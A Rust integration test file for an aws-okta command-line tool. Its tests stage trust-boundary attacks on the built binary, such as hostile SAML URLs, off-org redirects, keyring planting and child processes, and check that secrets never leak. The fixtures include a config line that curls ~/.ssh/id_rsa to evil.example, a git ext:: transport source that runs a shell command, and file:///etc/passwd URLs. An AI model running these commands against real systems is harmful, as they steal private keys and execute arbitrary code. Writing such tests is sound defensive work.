//! Trust boundaries, played as attacks against the built binary: a config file from a shared
//! repository, a hostile redirect, a curious child process. Each test asserts that the secret
//! never arrives where it does not belong, and the documented message and exit code.

use crate::common::*;
use fake_okta::{Config, DEFAULT_HUB_ROLE};

/// The secrets of a fake-Okta login that must never reach `server`.
fn assert_nothing_arrived(server: &CannedServer, env: &TestEnv) {
    let received = server.received();
    assert_eq!(server.count(), 0, "the foreign server got: {received}");
    for secret in env.okta.state().issued_secrets() {
        assert!(!received.contains(&secret), "leaked {secret}");
    }
    assert!(!received.contains(PASSWORD));
}

fn hub_config(saml_url: &str) -> String {
    format!("[okta]\naws_saml_url = {saml_url}\n\n[profile hub]\nrole_arn = {DEFAULT_HUB_ROLE}\nregion = us-east-1\n")
}

/// A logged-in environment whose hub's `aws_saml_url` points at another host (a recorder).
fn saml_url_off_the_org() -> (TestEnv, CannedServer) {
    let env = TestEnv::new(Config::default());
    env.add();
    let evil = CannedServer::start(200, "text/html", "<html></html>");
    env.write_config(&hub_config(&format!(
        "{}/home/amazon_aws/0oa1/272",
        evil.url
    )));
    (env, evil)
}

#[test]
fn an_aws_saml_url_on_another_host_gets_no_session_token() {
    let (env, evil) = saml_url_off_the_org();
    let out = env.run(&["cred-process", "hub"]);
    assert_exit(&out, exit::CONFIG, "aws_saml_url");
    assert!(
        stderr(&out).contains("not to your Okta org"),
        "{}",
        stderr(&out)
    );
    assert_nothing_arrived(&evil, &env);
    assert_eq!(
        env.okta.counters().authn,
        0,
        "checked before the password is sent"
    );
}

#[test]
fn backslash_and_scheme_tricks_in_aws_saml_url_are_config_errors() {
    let env = TestEnv::new(Config::default());
    env.add();
    for evil in [
        "\\\\evil.example/x",
        "/\\evil.example/x",
        "file:///etc/passwd",
    ] {
        env.write_config(&hub_config(evil));
        let out = env.run(&["cred-process", "hub"]);
        assert_exit(&out, exit::CONFIG, "aws_saml_url");
        let out = env.run(&["config", "validate"]);
        assert_exit(&out, exit::CONFIG, "aws_saml_url");
    }
    assert_eq!(env.okta.counters().total, 0);
}

#[test]
fn login_never_opens_an_aws_saml_url_off_the_org() {
    let (env, evil) = saml_url_off_the_org();
    let out = env.run(&["login", "hub", "--stdout"]);
    assert_exit(&out, exit::CONFIG, "aws_saml_url");
    assert!(!stdout(&out).contains(&evil.url), "{}", stdout(&out));
}

#[test]
fn a_redirect_to_another_host_gets_no_cookie_and_is_not_followed() {
    let evil = CannedServer::start(200, "text/html", "<html></html>");
    let env = TestEnv::new(Config {
        app_redirect: Some(format!("{}/collect", evil.url)),
        ..Config::default()
    });
    env.add();
    let out = env.run(&["cred-process", "hub"]);
    assert_exit(&out, exit::OKTA_API, "outside the Okta org");
    assert_nothing_arrived(&evil, &env);
}

#[test]
fn exec_gives_the_command_aws_credentials_and_no_aws_okta_secret() {
    let env = TestEnv::new(Config::default());
    env.add();
    for server in [false, true] {
        let mut args = vec!["exec", "hub"];
        if server {
            args.push("--server");
        }
        args.extend(["--", "env"]);
        let out = env.run(&args);
        assert!(out.status.success(), "{}", stderr(&out));
        let printed = stdout(&out);
        let expected = if server {
            "AWS_CONTAINER_AUTHORIZATION_TOKEN="
        } else {
            "AWS_SECRET_ACCESS_KEY="
        };
        assert!(printed.contains(expected), "{printed}");
        assert!(!printed.contains("AWS_OKTA_FILE_PASSPHRASE"), "{printed}");
        assert!(!printed.contains("test file passphrase"), "{printed}");
    }
}

/// The test environment without the passphrase variable.
fn without_passphrase_env(env: &TestEnv, args: &[&str]) -> std::process::Command {
    let mut cmd = env.cmd(args);
    cmd.env_remove("AWS_OKTA_FILE_PASSPHRASE");
    cmd
}

#[test]
fn the_file_backend_takes_its_passphrase_from_a_file_or_a_command() {
    let env = TestEnv::new(Config::default());
    env.add();
    let file = env.home().join("passphrase");
    std::fs::write(&file, "test file passphrase\n").unwrap();

    let out = without_passphrase_env(&env, &["cred-process", "hub", "--no-cache"])
        .env("AWS_OKTA_FILE_PASSPHRASE_FILE", &file)
        .output()
        .unwrap();
    cred_process_json(&out);

    let out = without_passphrase_env(&env, &["cred-process", "hub", "--no-cache"])
        .env(
            "AWS_OKTA_FILE_PASSPHRASE_COMMAND",
            "printf '%s\\n' 'test file passphrase'",
        )
        .output()
        .unwrap();
    cred_process_json(&out);

    let out = without_passphrase_env(&env, &["cred-process", "hub", "--no-cache"])
        .env("AWS_OKTA_FILE_PASSPHRASE_COMMAND", "printf 'wrong\\n'")
        .output()
        .unwrap();
    assert_exit(&out, exit::KEYCHAIN, "wrong passphrase");

    let out = without_passphrase_env(&env, &["cred-process", "hub", "--no-cache"])
        .env("AWS_OKTA_FILE_PASSPHRASE_COMMAND", "true")
        .output()
        .unwrap();
    assert_exit(&out, exit::KEYCHAIN, "empty");
}

#[cfg(unix)]
#[test]
fn a_passphrase_file_descriptor_is_read_and_closed_before_the_command_runs() {
    let env = TestEnv::new(Config::default());
    env.add();
    let file = env.home().join("passphrase");
    std::fs::write(&file, "test file passphrase\n").unwrap();
    // The shell opens fd 3 on the passphrase and hands it to aws-okta; the command run by
    // exec then tries to read fd 3.
    let script = format!(
        "exec 3<'{}'; exec \"$0\" exec hub -- sh -c 'cat <&3 && echo READ-FD3; echo done'",
        file.display()
    );
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(&script)
        .arg(env!("CARGO_BIN_EXE_aws-okta"))
        .envs(
            env.cmd(&[])
                .get_envs()
                .filter_map(|(k, v)| Some((k.to_owned(), v?.to_owned())))
                .filter(|(k, _)| k != "AWS_OKTA_FILE_PASSPHRASE"),
        )
        .env("AWS_OKTA_FILE_PASSPHRASE_FILE", "/dev/fd/3")
        .output()
        .unwrap();
    let printed = stdout(&out);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(printed.contains("done"), "{printed}");
    assert!(!printed.contains("READ-FD3"), "{printed}");
    assert!(!printed.contains("test file passphrase"), "{printed}");
}

#[test]
fn sts_endpoints_in_a_config_file_never_get_the_saml_assertion() {
    let env = TestEnv::new(Config::default());
    env.add();
    let evil = sts_error_server(403, "AccessDenied", "collected");
    // A team file's endpoints, global and service-specific, for the profile AWS SDKs read
    // by default. With no endpoint in the user's environment, STS is AWS's own (unreachable
    // from the test machine: the run fails, but the assertion never reaches `evil`).
    env.write_config(&format!(
        "{}\n[default]\nservices = team\nendpoint_url = {evil}\n\n[services team]\nsts =\n  endpoint_url = {evil}\n",
        hub_config(fake_okta::DEFAULT_SAML_PATH),
        evil = evil.url
    ));
    let out = env
        .cmd(&["cred-process", "hub"])
        .env_remove("AWS_ENDPOINT_URL_STS")
        .output()
        .unwrap();
    assert_eq!(evil.count(), 0, "{}", evil.received());
    assert_ne!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(
        env.okta.counters().saml_issued,
        1,
        "the login itself happened"
    );

    // The user's own environment still decides.
    let out = env
        .cmd(&["cred-process", "hub"])
        .env_remove("AWS_ENDPOINT_URL_STS")
        .env("AWS_ENDPOINT_URL", &env.sts_url)
        .output()
        .unwrap();
    cred_process_json(&out);
    assert_eq!(evil.count(), 0, "{}", evil.received());
}

#[test]
fn a_remote_plain_http_sts_endpoint_is_refused() {
    let env = TestEnv::new(Config::default());
    env.add();
    let out = env
        .cmd(&["cred-process", "hub"])
        .env("AWS_ENDPOINT_URL_STS", "http://sts.example.com")
        .output()
        .unwrap();
    assert_exit(&out, exit::CONFIG, "AWS_ENDPOINT_URL_STS");
    // Refused with the other settings, before the password went anywhere.
    assert_eq!(env.okta.counters().total, 0);
}

/// A team-config checkout whose team file also runs a program for every AWS SDK call.
fn hostile_team_repo(dir: &std::path::Path) -> std::path::PathBuf {
    let repo = dir.join("team-repo");
    std::fs::create_dir_all(repo.join("teams")).unwrap();
    std::fs::write(
        repo.join("teams/ops.config"),
        format!(
            "[okta]\naws_saml_url = {}\n\n[profile ops-hub]\nrole_arn = {DEFAULT_HUB_ROLE}\n\n\
             [profile default]\ncredential_process = /bin/sh -c 'curl -d @$HOME/.ssh/id_rsa evil.example'\n",
            fake_okta::DEFAULT_SAML_PATH
        ),
    )
    .unwrap();
    repo
}

#[test]
fn config_init_refuses_a_team_file_that_would_run_a_program() {
    let env = TestEnv::new(Config::default());
    let repo = hostile_team_repo(env.home());
    let before = std::fs::read(env.config_path()).unwrap();
    let source = repo.to_str().unwrap();

    let out = env.run(&["config", "init", "--team", "ops", "--source", source]);
    assert_exit(&out, exit::CONFIG, "credential_process");
    assert!(
        stderr(&out).contains("--allow-executable-keys"),
        "{}",
        stderr(&out)
    );
    assert!(stderr(&out).contains("ops.config:8"), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(env.config_path()).unwrap(),
        before,
        "nothing written"
    );

    // The dry run names the key in its diff and on stderr, and writes nothing.
    let out = env.run(&[
        "config",
        "init",
        "--team",
        "ops",
        "--source",
        source,
        "--dry-run",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("+credential_process"),
        "{}",
        stdout(&out)
    );
    assert!(
        stderr(&out).contains("credential_process"),
        "{}",
        stderr(&out)
    );
    assert_eq!(std::fs::read(env.config_path()).unwrap(), before);

    // The user who reviewed it may install it.
    let out = env.run(&[
        "config",
        "init",
        "--team",
        "ops",
        "--source",
        source,
        "--allow-executable-keys",
    ]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(std::fs::read_to_string(env.config_path())
        .unwrap()
        .contains("credential_process = /bin/sh"));
}

#[test]
fn config_init_refuses_transports_that_run_commands() {
    let env = TestEnv::new(Config::default());
    let marker = env.home().join("pwned");
    let source = format!("ext::sh -c touch% {}% #.git", marker.display());
    // A user whose own git config allows the ext transport (git refuses it by default).
    let out = env
        .cmd(&["config", "init", "--team", "ops", "--source", &source])
        .env("GIT_CONFIG_COUNT", "1")
        .env("GIT_CONFIG_KEY_0", "protocol.ext.allow")
        .env("GIT_CONFIG_VALUE_0", "always")
        .output()
        .unwrap();
    assert_eq!(code(&out), exit::CONFIG, "{}", stderr(&out));
    assert!(!marker.exists(), "git ran the ext:: command");
}

use crate::common::chaos;

/// `add` with `domain` in place of the fake Okta.
fn add_with_domain(env: &TestEnv, domain: &str) {
    let out = env.run_with_stdin(
        &["add", "--domain", domain, "--username", USERNAME],
        &format!("{PASSWORD}\n"),
    );
    assert!(out.status.success(), "add: {}", stderr(&out));
}

#[test]
fn debug_output_never_shows_the_session_token_of_a_failed_request() {
    let env = TestEnv::new(Config::default());
    // The app link (which carries the one-time sessionToken) answers after the timeout.
    let proxy = chaos::Chaos::start(&env.okta.url(), |line, _| {
        if line.contains("sessionToken=") {
            chaos::Fault::Delay(std::time::Duration::from_secs(3))
        } else {
            chaos::Fault::Pass
        }
    });
    add_with_domain(&env, &proxy.url);
    let out = env
        .cmd(&["--debug", "cred-process", "hub"])
        .env("AWS_OKTA_HTTP_TIMEOUT", "300ms")
        .output()
        .unwrap();
    assert_eq!(code(&out), exit::NETWORK, "{}", stderr(&out));
    let err = stderr(&out);
    assert!(err.contains("okta connection error"), "{err}");
    assert!(!err.contains("sessionToken="), "{err}");
    for secret in env.okta.state().issued_secrets() {
        assert!(!err.contains(&secret), "leaked {secret}: {err}");
    }
}

#[test]
fn an_oversized_answer_is_refused_not_buffered() {
    let env = TestEnv::new(Config::default());
    let huge = format!(
        "{{\"status\":\"SUCCESS\",\"pad\":\"{}\"}}",
        "x".repeat(5 << 20)
    );
    let okta = CannedServer::start(200, "application/json", &huge);
    add_with_domain(&env, &okta.url);
    let out = env.run(&["cred-process", "hub"]);
    assert_exit(&out, exit::OKTA_API, "larger than 4 MiB");
}

#[cfg(target_os = "linux")]
#[test]
fn the_process_cannot_dump_core_but_the_command_keeps_the_users_limit() {
    let env = TestEnv::new(Config::default());
    env.add();
    let out = env.run(&["--debug", "cred-process", "hub"]);
    let err = stderr(&out);
    assert!(
        err.contains("dumpable=0") && err.contains("core_limit=0"),
        "{err}"
    );

    let users = std::process::Command::new("sh")
        .args(["-c", "ulimit -c"])
        .output()
        .unwrap();
    let out = env.run(&["exec", "hub", "--", "sh", "-c", "ulimit -c"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(stdout(&out), stdout(&users));
}

#[test]
fn an_unreadable_passphrase_check_fails_closed() {
    let env = TestEnv::new(Config::default());
    env.add();
    let check = env.home().join(".aws-okta/keyring/.passphrase-check.enc");
    assert!(check.exists());
    std::fs::remove_file(&check).unwrap();
    std::fs::create_dir(&check).unwrap();
    let out = env
        .cmd(&["cred-process", "hub", "--no-cache"])
        .env("AWS_OKTA_FILE_PASSPHRASE", "some other passphrase")
        .output()
        .unwrap();
    assert_exit(&out, exit::KEYCHAIN, "cannot read the passphrase check");
    assert!(check.is_dir(), "not replaced");
}

#[cfg(unix)]
#[test]
fn login_never_puts_the_sign_in_token_in_process_arguments() {
    let env = TestEnv::new(Config::default());
    env.add();
    let federation = CannedServer::start(
        200,
        "application/json",
        r#"{"SigninToken":"tok-SECRET-123"}"#,
    );
    // A stand-in for xdg-open that records its arguments and the page it is given.
    let bin = env.home().join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let record = env.home().join("opened");
    let opener = bin.join("xdg-open");
    std::fs::write(
        &opener,
        format!(
            "#!/bin/sh\nprintf '%s\\n' \"$@\" > '{r}.args'\ncat \"$1\" > '{r}.page'\nstat -c %a \"$1\" > '{r}.mode'\n",
            r = record.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&opener, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let out = env
        .cmd(&["login", "hub"])
        .env("PATH", path)
        .env("AWS_OKTA_FEDERATION_ENDPOINT", &federation.url)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let wait = std::time::Instant::now();
    while !record.with_extension("mode").exists() && wait.elapsed().as_secs() < 10 {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let args = std::fs::read_to_string(record.with_extension("args")).unwrap();
    assert!(!args.contains("tok-SECRET-123"), "{args}");
    assert!(args.contains(".aws-okta/signin/"), "{args}");
    let page = std::fs::read_to_string(record.with_extension("page")).unwrap();
    assert!(page.contains("SigninToken=tok-SECRET-123"), "{page}");
    let mode = std::fs::read_to_string(record.with_extension("mode")).unwrap();
    assert_eq!(mode.trim(), "600");
}

#[test]
fn parallel_write_to_credentials_lose_no_profile() {
    let env = TestEnv::new(Config::default());
    env.add();
    let mut config = hub_config(fake_okta::DEFAULT_SAML_PATH);
    let names: Vec<String> = (0..8).map(|i| format!("p{i}")).collect();
    for name in &names {
        config.push_str(&format!(
            "\n[profile {name}]\nokta_source_profile = hub\nokta_role_arn = {SPOKE_ROLE}\nrole_session_name = {name}\n"
        ));
    }
    env.write_config(&config);
    // Warm every profile first, so the writes below run close together.
    for name in &names {
        cred_process_json(&env.run(&["cred-process", name]));
    }
    for _ in 0..3 {
        let children: Vec<_> = names
            .iter()
            .map(|name| {
                env.cmd(&["write-to-credentials", name])
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::null())
                    .spawn()
                    .unwrap()
            })
            .collect();
        for mut child in children {
            assert!(child.wait().unwrap().success());
        }
        let written = std::fs::read_to_string(env.home().join(".aws/credentials")).unwrap();
        for name in &names {
            assert!(
                written.contains(&format!("[{name}]")),
                "{name} lost: {written}"
            );
        }
        std::fs::remove_file(env.home().join(".aws/credentials")).unwrap();
    }
}

#[cfg(unix)]
#[test]
fn write_to_credentials_keeps_a_symlinked_credentials_file_a_symlink() {
    let env = TestEnv::new(Config::default());
    env.add();
    let real = env.home().join("dotfiles-credentials");
    std::fs::write(&real, "[mine]\naws_access_key_id = AKIAKEEP\n").unwrap();
    let link = env.home().join(".aws/credentials");
    std::os::unix::fs::symlink(&real, &link).unwrap();
    let out = env.run(&["write-to-credentials", "hub", "--as", "hub-creds"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(std::fs::symlink_metadata(&link)
        .unwrap()
        .file_type()
        .is_symlink());
    let text = std::fs::read_to_string(&real).unwrap();
    assert!(
        text.starts_with("[mine]\naws_access_key_id = AKIAKEEP\n"),
        "{text}"
    );
    assert!(text.contains("[hub-creds]"), "{text}");
}

/// Another login session of the same user plants a key under our name in the user keyring
/// (which pam_keyinit links into every session keyring). aws-okta must not seal the credential
/// cache with it: otherwise that session reads our cached credentials.
#[cfg(target_os = "linux")]
#[test]
fn a_key_planted_in_the_user_keyring_never_seals_the_cache() {
    use sha2::{Digest, Sha256};
    let env = TestEnv::new(Config::default());
    env.add();
    let state = env.home().join(".aws-okta");
    let digest = hex::encode(Sha256::digest(state.as_os_str().as_encoded_bytes()));
    let description = format!("aws-okta:credential-cache:{}", &digest[..16]);
    let bin = env!("CARGO_BIN_EXE_aws-okta");
    let in_session = |script: &str, passphrase: bool| {
        let mut cmd = std::process::Command::new("keyctl");
        cmd.args(["session", "-", "sh", "-c", script, "sh", bin, &description])
            .env_clear()
            .envs(
                env.cmd(&[])
                    .get_envs()
                    .filter_map(|(k, v)| Some((k.to_owned(), v?.to_owned()))),
            );
        if !passphrase {
            cmd.env_remove("AWS_OKTA_FILE_PASSPHRASE");
        }
        cmd.output().unwrap()
    };
    let link_user = "keyctl link @u @s >/dev/null";
    // aws-okta was used before: its cache directory exists.
    std::fs::create_dir_all(state.join("cache")).unwrap();
    // The attacker's session: plant 32 known bytes under our key's name in @u.
    let out = in_session(
        &format!("{link_user}; printf '%032d' 0 | keyctl padd user \"$2\" @u >/dev/null"),
        false,
    );
    assert!(out.status.success(), "{}", stderr(&out));
    // The user's session logs in and caches credentials.
    let out = in_session(&format!("{link_user}; \"$1\" cred-process hub"), true);
    cred_process_json(&out);
    // The attacker's session (the planted key visible, no passphrase) gets no credentials.
    let out = in_session(&format!("{link_user}; \"$1\" cred-process hub"), false);
    let _ = in_session(
        &format!("{link_user}; keyctl invalidate \"$(keyctl search @u user \"$2\")\" >/dev/null 2>&1; true"),
        false,
    );
    assert_eq!(code(&out), exit::KEYCHAIN, "{}", stdout(&out));
}

/// Identity Engine: the password grant (and every other OAuth POST) never follows a
/// redirect, even a 307 that would re-send the body with the password to another host.
#[test]
fn an_oauth_post_never_follows_a_redirect_with_its_secrets() {
    let evil = CannedServer::start(200, "application/json", r#"{"access_token":"x"}"#);
    let env = TestEnv::new(Config {
        pipeline: "idx".into(),
        oauth: fake_okta::OAuthConfig {
            token_redirect: Some(format!("{}/v1/token", evil.url)),
            ..fake_okta::OAuthConfig::default()
        },
        ..Config::default()
    });
    env.write_config(&config_text().replacen(
        "[okta]\n",
        &format!(
            "[okta]\nokta_oidc_client_id = {}\nokta_auth_flow = direct\n",
            fake_okta::DEFAULT_CLIENT_ID
        ),
        1,
    ));
    env.add();
    let out = env.run(&["cred-process", "hub"]);
    assert_exit(&out, exit::OKTA_API, "redirect");
    assert_eq!(evil.count(), 0, "{}", evil.received());
    assert!(!evil.received().contains(PASSWORD));
}

/// The console sign-in request carries the credentials in its query; an error reaching the
/// federation endpoint must not print that URL.
#[test]
fn a_failed_console_sign_in_never_prints_the_credentials() {
    let env = TestEnv::new(Config::default());
    env.add();
    let creds = cred_process_json(&env.run(&["cred-process", "hub"]));
    let secret = creds["SecretAccessKey"].as_str().unwrap().to_string();
    let closed = format!("http://127.0.0.1:{}/federation", free_port());
    let out = env
        .cmd(&["--debug", "login", "hub", "--stdout"])
        .env("AWS_OKTA_FEDERATION_ENDPOINT", &closed)
        .output()
        .unwrap();
    assert_exit(
        &out,
        exit::NETWORK,
        "cannot reach the AWS federation endpoint",
    );
    let err = stderr(&out);
    assert!(
        !err.contains(&secret) && !err.contains("sessionKey"),
        "{err}"
    );
}
